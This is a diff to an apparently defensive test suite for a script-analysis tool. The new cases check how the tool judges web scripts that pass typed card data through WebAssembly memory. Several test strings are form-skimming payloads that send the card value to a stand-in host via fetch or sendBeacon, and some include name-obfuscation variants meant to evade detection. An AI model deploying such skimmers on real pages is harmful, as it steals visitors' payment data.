@@ -91,6 +91,47 @@ describe('channels', () => {
   })
 })
 
+describe('the memory of WebAssembly', () => {
+  const memory = 'var memory = new WebAssembly.Memory({ initial: 1 })'
+  const sendsIt = `fetch('https://seen-often.example/w?' + new TextDecoder().decode(new Uint8Array(memory.buffer, 0, 16)))`
+
+  it('is followed where the code writes and reads it by one list', () => {
+    const code = `${memory}; var list = new Uint8Array(memory.buffer); document.onchange = function () { var t = ${card}; for (var i = 0; i < t.length; i++) list[i] = t.charCodeAt(i)
+      var out = ''; for (var j = 0; list[j]; j++) out += String.fromCharCode(list[j]); navigator.sendBeacon('https://seen-often.example/w', out) }`
+    expect(verdict(code)).toBe('malicious')
+  })
+
+  it.each([
+    [
+      'one view writes and another reads',
+      `${memory}; document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
+    ],
+    [
+      'bytes are set',
+      `${memory}; document.onchange = () => { new Uint8Array(memory.buffer).set(new TextEncoder().encode(${card}), 8); fetch('https://seen-often.example/w', { method: 'POST', body: memory.buffer }) }`,
+    ],
+    [
+      'the module sends',
+      `WebAssembly.instantiate(bytes, { js: { send: (at) => ${sendsIt} } }).then(({ instance: { exports } }) => { memory = exports.memory; document.onchange = () => exports.run(new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)).written) })`,
+    ],
+    [
+      'the name is put together',
+      `var memory = new (window['Web' + 'Assembly'].Memory)({ initial: 1 }); document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
+    ],
+    [
+      'the name is another',
+      `const W = WebAssembly; const memory = new W.Memory({ initial: 1 }); document.onchange = () => { new TextEncoder().encodeInto(${card}, new Uint8Array(memory.buffer)); ${sendsIt} }`,
+    ],
+  ])('leaves a script without a verdict where %s', (_how, code) => {
+    const { verdict, missing } = judgeScript(code)
+    expect([verdict, missing.map((one) => one.code)]).toEqual(['inconclusive', ['webassembly']])
+  })
+
+  it('is no doubt in code that reads nothing that is typed', () => {
+    expect(verdict(`WebAssembly.instantiateStreaming(fetch('/draw.wasm')).then((r) => r.instance.exports.draw())`)).toBe('benign')
+  })
+})
+
 describe('what libraries call for each request of the page', () => {
   it.each([
     [
